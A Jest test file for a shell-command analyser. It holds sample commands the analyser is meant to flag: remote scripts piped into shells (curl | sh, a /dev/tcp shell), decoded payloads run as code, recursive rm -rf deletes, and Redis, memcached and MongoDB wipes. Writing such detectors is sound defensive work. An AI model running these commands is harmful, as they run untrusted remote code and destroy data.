// Flow facts: fetched or decoded text that runs as code. And text that cannot be read.
import { describe, expect, test } from '@jest/globals';
import { commandsIn, filesIn, flowsIn, opaqueIn } from './listing.ts';

describe('flows', () => {
  test.each([
    ['curl -s https://acme.com/i.sh | sh', 'http to shell'],
    ['curl -s https://acme.com/i.sh | sudo bash -s -- -y', 'http to shell'],
    ['curl -s https://acme.com/i.sh | cat | bash', 'http to shell'],
    ['curl -s https://acme.com/i.py | python3 -', 'http to interpreter'],
    ['bash <(curl -s https://acme.com/i.sh)', 'http to shell'],
    ['source <(curl -s https://acme.com/i.sh)', 'http to shell'],
    ['bash -c "$(wget -qO- https://acme.com/i.sh)"', 'http to shell'],
    ['curl -o i.sh https://acme.com/i.sh && bash i.sh', 'http to shell'],
    ['curl -o i.sh https://acme.com/i.sh && mv i.sh j.sh && bash j.sh', 'http to shell'],
    ['curl -o i.sh https://acme.com/i.sh && chmod +x i.sh && ./i.sh', 'http to shell'],
    ['bash < /dev/tcp/acme.com/4444', 'http to shell'],
    ['base64 -d payload | sh', 'decoded to shell'],
    ['xxd -r -p payload | python3', 'decoded to interpreter'],
  ])('%s', (command, expected) => expect(flowsIn(command)).toEqual([expected]));
  test.each([
    'curl -s https://acme.com/api | jq .',
    'curl -s https://acme.com/api | python3 -m json.tool',
    'curl -s https://acme.com/api | python3 -c "import sys"',
    'curl -o i.sh https://acme.com/i.sh',
    'curl -Lo kind https://acme.com/kind && chmod +x kind && ./kind version',
    'bash build.sh',
    'cat build.sh | sh',
    'base64 -d payload > out.bin',
  ])('%s has none', (command) => expect(flowsIn(command)).toEqual([]));
});

describe('text that cannot be read', () => {
  test.each<[string, string[]]>([
    ["rm -rf services 'orders", ['delete project folder recursive many']],
    ["echo ok\nrm -rf services; echo 'orders", ['delete project folder recursive']],
    ["find . -name 'orders", []],
    ["git commit -m 'find the bug", []],
    ["echo 'rm", []],
  ])('%j', (command, expected) => expect([...new Set(filesIn(command))]).toEqual(expected));
  test('too deep to follow: its words count', () =>
    expect(opaqueIn(`${'('.repeat(1_001)} rm -rf services`)).toEqual(['syntax']));
  test('too deep, without a word that matters', () => expect(opaqueIn(`${'('.repeat(1_001)} ls`)).toEqual([]));
});

describe('consoles', () => {
  test.each<[string, string, string[]]>([
    ['redis-cli FLUSHALL', 'redis-cli', ['flushall']],
    ['redis-cli -n 2 Config SET dir /srv', 'redis-cli', ['config set dir /srv']],
    ['echo FLUSHDB | redis-cli', 'redis-cli', ['', 'flushdb']],
    ['redis-cli <<EOF\nGET a\nDEL a\nEOF', 'redis-cli', ['', 'get a', 'del a']],
    ["printf 'flush_all\\r\\n' | nc cache.acme.com 11211", 'memcached', ['flush_all']],
    ['echo hi | nc acme.com 80', 'memcached', []],
    ["mongosh shop --eval 'db.orders.deleteMany({})'", 'mongosh', ['shop', 'deleteMany {}']],
    ["mongosh shop --eval 'db.dropDatabase()'", 'mongosh', ['shop', 'dropDatabase']],
    ["mongosh shop --eval 'print(1)'", 'mongosh', ['shop']],
  ])('%s', (command, name, expected) => expect(commandsIn(command, name)).toEqual(expected));
});
